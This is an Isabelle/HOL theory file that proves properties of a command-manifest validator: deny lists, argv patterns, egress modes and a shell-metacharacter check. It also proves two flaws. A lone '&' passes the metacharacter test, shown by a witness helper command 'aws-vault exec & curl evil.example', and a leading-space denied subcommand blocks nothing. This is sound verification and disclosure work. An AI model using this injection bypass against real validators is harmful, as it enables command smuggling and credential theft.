lemma checkFlags_None: "checkFlags flags argv = None \<longleftrightarrow> (\<forall>a \<in> set argv. \<not> flagDenied flags a)"
  by (induction argv) (auto simp: flagDenied_def includesStr_char)

lemma firstMatch_Some:
  "(\<exists>hit. firstMatch argv ps = Some hit) \<longleftrightarrow>
    (\<exists>(n, p) \<in> set ps. \<exists>pat \<in> set (orDefault (cfAllowedArgvPatterns p) []). matchesArgvPattern argv pat)"
proof -
  let ?hits = "concat (map (\<lambda>(name, p). map (\<lambda>pat. (name, apName pat))
      (filter (matchesArgvPattern argv) (orDefault (cfAllowedArgvPatterns p) []))) ps)"
  have "(\<exists>hit. firstMatch argv ps = Some hit) \<longleftrightarrow> ?hits \<noteq> []"
    by (cases ?hits) (simp_all only: firstMatch_def list.case, simp_all)
  also have "\<dots> \<longleftrightarrow> (\<exists>(n, p) \<in> set ps. \<exists>pat \<in> set (orDefault (cfAllowedArgvPatterns p) []). matchesArgvPattern argv pat)"
    by (simp add: case_prod_beta filter_empty_conv)
  finally show ?thesis .
qed

lemma validateCommand_allowed:
  "(\<exists>hit. validateCommand m argv = Inr hit) \<longleftrightarrow> argv \<noteq> [] \<and>
    (\<forall>d \<in> set (allDeniedSubcommands m). \<not> prefix (splitWs d) argv) \<and>
    (\<forall>a \<in> set argv. \<not> flagDenied (allDeniedFlags m) a) \<and>
    (\<exists>(n, p) \<in> set (profilesOf m). \<exists>pat \<in> set (orDefault (cfAllowedArgvPatterns p) []). matchesArgvPattern argv pat)"
proof -
  have none: "find (subcommandMatches argv) (allDeniedSubcommands m) = None \<longleftrightarrow>
      (\<forall>d \<in> set (allDeniedSubcommands m). \<not> prefix (splitWs d) argv)"
    by (auto simp: find_None_iff subcommandMatches_prefix)
  show ?thesis
    unfolding none [symmetric] checkFlags_None [symmetric] firstMatch_Some [symmetric]
    by (auto simp: validateCommand_def split: option.splits)
qed

text \<open>The alternatives of the metacharacter test as characters.\<close>

lemma loneBar_or_double: "includesStr s ''||'' \<or> loneBar False s \<longleftrightarrow> CHR ''|'' \<in> set s"
proof -
  have bar: "loneBar b s \<Longrightarrow> CHR ''|'' \<in> set s" for b s
    by (induction s arbitrary: b) (auto split: if_splits)
  have double: "includesStr s ''||'' \<Longrightarrow> CHR ''|'' \<in> set s"
    by (auto simp: includes_iff)
  have "CHR ''|'' \<in> set s \<Longrightarrow> \<not> loneBar False s \<Longrightarrow> includesStr s ''||''"
  proof (induction s)
    case (Cons c s)
    show ?case
    proof (cases "c = CHR ''|''")
      case True
      then show ?thesis using Cons.prems by (cases s) (auto simp: startsWith_def)
    qed (use Cons in auto)
  qed simp
  with bar double show ?thesis by blast
qed

lemma metacharacters:
  "containsShellMetacharacters s \<longleftrightarrow> set s \<inter> {CHR '';'', CHR ''|'', CHR 0x60, CHR 0x0A, CHR 0x0D} \<noteq> {} \<or>
    includesStr s ''&&'' \<or> includesStr s ''$(''"
  unfolding containsShellMetacharacters_def includesStr_char using loneBar_or_double [of s] by auto

lemma hd_splitWsAux: "is_ws c \<Longrightarrow> hd (splitWsAux acc (c # s)) = rev acc"
  by (induction s arbitrary: c) auto

lemma splitWsAux_not_Nil: "splitWsAux acc s \<noteq> []"
proof (induction s arbitrary: acc)
  case (Cons c s)
  then show ?case by (cases s) auto
qed simp

section \<open>Properties\<close>

text \<open>A manifest passes validation exactly when it satisfies the nine invariants of the module, stated here
  without the validator: version one, digest, id, version and entry point present, neither entry point
  nor id a denied binary, a known egress mode, a sound auth adapter whose helper has no metacharacter
  and no denied first word, no traversal in the clean directories, and at least one profile, each
  with bounded patterns, flags with a dash and network targets that fit the egress mode.\<close>

theorem manifest_valid_iff:
  "validateManifest m = [] \<longleftrightarrow>
    cmSchemaVersion m = ''1'' \<and> present (cmBundleDigest m) \<and> present (cmVersion m) \<and>
    (\<exists>b. cmBundleId m = Some b \<and> \<not> blank b \<and> \<not> isDeniedBinary b) \<and>
    (\<exists>e. cmEntrypoint m = Some e \<and> \<not> blank e \<and> \<not> isDeniedBinary e) \<and>
    (\<exists>g. cmEgressMode m = Some g \<and> g \<in> {''proxy_required'', ''no_network''}) \<and>
    (\<exists>a. cmAuthAdapter m = Some a \<and> adapterOk a) \<and>
    list_all (\<lambda>(k, _). \<not> includesStr k ''..'' \<and> trim k \<noteq> []) (orDefault (cmCleanConfigDirs m) []) \<and>
    profilesOf m \<noteq> [] \<and> list_all (\<lambda>(n, p). profileOk (cmEgressMode m) p) (profilesOf m)"
proof -
  have named: "missing x = False \<and> (case x of None \<Rightarrow> [] | Some e \<Rightarrow> complain (e \<noteq> [] \<and> isDeniedBinary e) (f e)) = [] \<longleftrightarrow>
      (\<exists>b. x = Some b \<and> \<not> blank b \<and> \<not> isDeniedBinary b)" for x and f :: "string \<Rightarrow> manifestError"
    by (cases x) (auto simp: missing_def blank_def)
  have egress: "(if truthy (cmEgressMode m)
     then complain (the (cmEgressMode m) \<notin> set EGRESS_MODES) (InvalidEgressMode (the (cmEgressMode m)))
     else [MissingEgressMode]) = [] \<longleftrightarrow> (\<exists>g. cmEgressMode m = Some g \<and> g \<in> {''proxy_required'', ''no_network''})"
    by (cases "cmEgressMode m") (auto simp: EGRESS_MODES_def)
  have adapter: "(case cmAuthAdapter m of None \<Rightarrow> [MissingAuthAdapter]
     | Some a \<Rightarrow> validateAuthAdapterConfig a @ validateHelper a) = [] \<longleftrightarrow>
      (\<exists>a. cmAuthAdapter m = Some a \<and> adapterOk a)"
    by (cases "cmAuthAdapter m") (simp_all only: option.case validateAdapter_ok, simp_all)
  have dirs: "concat (map (\<lambda>(k, _). complain (includesStr k ''..'') (ConfigDirTraversal k) @ complain (trim k = []) ConfigDirEmpty)
      (orDefault (cmCleanConfigDirs m) [])) = [] \<longleftrightarrow>
      list_all (\<lambda>(k, _). \<not> includesStr k ''..'' \<and> trim k \<noteq> []) (orDefault (cmCleanConfigDirs m) [])"
    by (induction "orDefault (cmCleanConfigDirs m) []") (auto simp: list_all_iff)
  have profiles: "(case orDefault (cmCommandProfiles m) [] of [] \<Rightarrow> [NoProfiles]
     | ps \<Rightarrow> concat (map (validateProfile (cmEgressMode m)) ps)) = [] \<longleftrightarrow>
      profilesOf m \<noteq> [] \<and> list_all (\<lambda>(n, p). profileOk (cmEgressMode m) p) (profilesOf m)"
    using validateProfile_ok
    by (cases "orDefault (cmCommandProfiles m) []") (auto simp: profilesOf_def list_all_iff)
  show ?thesis
    unfolding validateManifest_def append_is_Nil_conv egress adapter dirs profiles complain_Nil missing_present
    using named [of "cmBundleId m" DeniedBundleId] named [of "cmEntrypoint m" DeniedEntrypoint]
    by (auto simp: MANIFEST_SCHEMA_VERSION_def missing_present)
qed

text \<open>C40: A command of a valid manifest is allowed exactly when no denied subcommand of any profile is a prefix of
  it, no argument is a denied flag, alone or as \<open>flag=value\<close>, and it is in the language of a declared pattern.\<close>

theorem allowed_command_iff:
  assumes "validateManifest m = []"
  shows "(\<exists>hit. validateCommand m argv = Inr hit) \<longleftrightarrow> argv \<noteq> [] \<and>
    (\<forall>d \<in> set (allDeniedSubcommands m). \<not> prefix (splitWs d) argv) \<and>
    (\<forall>a \<in> set argv. \<not> flagDenied (allDeniedFlags m) a) \<and>
    (\<exists>(n, p) \<in> set (profilesOf m). \<exists>pat \<in> set (orDefault (cfAllowedArgvPatterns p) []).
       \<exists>tokens. apTokens pat = Some tokens \<and> inPattern tokens argv)"
proof -
  have prof: "\<And>n p. (n, p) \<in> set (profilesOf m) \<Longrightarrow> profileOk (cmEgressMode m) p"
  proof -
    fix n p assume np: "(n, p) \<in> set (profilesOf m)"
    have "validateProfile (cmEgressMode m) (n, p) = []"
      using assms np unfolding validateManifest_def append_is_Nil_conv profilesOf_def
      by (auto split: list.splits)
    then show "profileOk (cmEgressMode m) p" by (simp add: validateProfile_ok)
  qed
  have "matchesArgvPattern argv pat \<longleftrightarrow> (\<exists>tokens. apTokens pat = Some tokens \<and> inPattern tokens argv)"
    if "(n, p) \<in> set (profilesOf m)" "pat \<in> set (orDefault (cfAllowedArgvPatterns p) [])" for n p pat
  proof -
    have "patternOk pat" using prof [OF that(1)] that(2) by (auto simp: profileOk_def)
    then show ?thesis using matches_inPattern by (auto simp: patternOk_def)
  qed
  then show ?thesis unfolding validateCommand_allowed by fastforce
qed

text \<open>The metacharacter test misses a single ampersand. A helper command that starts an allowed binary in the
  background and then runs any text free of the tested metacharacters passes validation.\<close>

theorem background_operator_accepted:
  assumes "\<not> containsShellMetacharacters payload" "aaType a = ''credential_process''" "present (aaEnvVarName a)"
    "aaTimeoutMs a = None" "aaHelperCommand a = Some (''aws-vault exec & '' @ payload)"
  shows "adapterOk a"
proof -
  let ?h = "''aws-vault exec & '' @ payload"
  have meta: "\<not> containsShellMetacharacters ?h"
    using assms(1) by (simp add: metacharacters startsWith_def)
  obtain rest where trim: "trim ?h = ''aws-vault'' @ CHR '' '' # rest"
  proof -
    have "trim ?h = rev (dropWhile is_ws (rev (''aws-vault exec & '' @ payload)))"
      by (simp add: trim_def is_ws_def)
    also have "\<dots> = ''aws-vault exec &'' @ rev (dropWhile is_ws (rev ('' '' @ payload)))"
      by (simp add: dropWhile_append is_ws_def)
    finally show ?thesis using that by simp
  qed
  have "stripAssignments (trim ?h) = trim ?h"
    unfolding trim by (subst stripAssignments.simps)
      (simp add: stripAssignment_def identStart_def identChar_def)
  moreover have "hd (splitWs (trim ?h)) = ''aws-vault''"
    unfolding trim splitWs_def using hd_splitWsAux [of "CHR '' ''" "rev ''aws-vault''" rest]
    by (simp add: is_ws_def)
  ultimately have "extractShellBinary ?h = stripShellQuotes ''aws-vault''"
    by (simp only: extractShellBinary_def)
  then have "extractShellBinary ?h = ''aws-vault''"
    by (simp only:) (simp add: stripShellQuotes_def startsWith_def)
  then have "\<not> isDeniedBinary (extractShellBinary ?h)"
    by (simp only:) (simp add: isDeniedBinary_def pathBasename_def DENIED_BINARIES_def)
  moreover have "\<not> blank ?h" by (simp add: blank_iff is_ws_def)
  ultimately show ?thesis
    using assms meta by (simp add: adapterOk_def AUTH_ADAPTER_TYPES_def)
qed

definition ex_adapter :: adapterConfig where
  "ex_adapter = \<lparr>aaType = ''credential_process'', aaEnvVarName = Some ''AWS_KEY'', aaValuePrefix = None,
     aaFileExtension = None, aaFileMode = None,
     aaHelperCommand = Some ''aws-vault exec & curl evil.example'', aaTimeoutMs = None\<rparr>"

theorem background_operator_accepted_witness: "adapterOk ex_adapter"
  by (rule background_operator_accepted [where payload = "''curl evil.example''"])
    (simp_all add: ex_adapter_def metacharacters startsWith_def present_def blank_iff is_ws_def)

definition ex_manifest :: commandManifest where
  "ex_manifest = \<lparr>cmSchemaVersion = ''1'', cmBundleDigest = Some ''d'', cmBundleId = Some ''gh-cli'', cmVersion = Some ''1.0'',
     cmEntrypoint = Some ''bin/gh'', cmCommandProfiles = Some [(''api'', \<lparr>cfDescription = Some ''api'',
       cfAllowedArgvPatterns = Some [\<lparr>apName = Some ''api'', apTokens = Some [''api'', ''<endpoint>'']\<rparr>],
       cfDeniedSubcommands = Some [''auth login''], cfDeniedFlags = None, cfAllowedNetworkTargets = None\<rparr>)],
     cmAuthAdapter = Some \<lparr>aaType = ''env_var'', aaEnvVarName = Some ''GH_TOKEN'', aaValuePrefix = None,
       aaFileExtension = None, aaFileMode = None,
       aaHelperCommand = None, aaTimeoutMs = None\<rparr>,
     cmEgressMode = Some ''no_network'', cmCleanConfigDirs = None\<rparr>"

theorem allowed_command_iff_witness:
  "\<exists>hit. validateCommand ex_manifest [''api'', ''/repos''] = Inr hit"
proof -
  have valid: "validateManifest ex_manifest = []"
    by (simp add: validateManifest_def ex_manifest_def complain_def missing_def blank_iff is_ws_def isDeniedBinary_def
        pathBasename_def DENIED_BINARIES_def MANIFEST_SCHEMA_VERSION_def EGRESS_MODES_def AUTH_ADAPTER_TYPES_def
        validateAuthAdapterConfig_def validateHelper_def validateProfile_def validateArgvPattern_def
        isRestPlaceholder_def isPlaceholder_def startsWith_def endsWith_def)
  show ?thesis
    unfolding allowed_command_iff [OF valid]
    by (simp add: ex_manifest_def profilesOf_def allDeniedSubcommands_def allDeniedFlags_def splitWs_def is_ws_def
        flagDenied_def startsWith_def inPattern_def isRestPlaceholder_def endsWith_def tokenFits_def isPlaceholder_def)
qed

text \<open>A denied subcommand written with a leading space denies nothing that starts with a word.\<close>

lemma leading_space_denies_nothing:
  assumes "is_ws c" "subcommandMatches argv (c # s)"
  shows "hd argv = []"
proof -
  have "hd (splitWsAux [] (c # s)) = []"
    using hd_splitWsAux [OF assms(1), of "[]" s] by simp
  moreover have "splitWs (c # s) \<noteq> []"
    unfolding splitWs_def by (rule splitWsAux_not_Nil)
  ultimately show ?thesis
    using assms(2) by (auto simp: subcommandMatches_prefix splitWs_def prefix_def)
qed

end
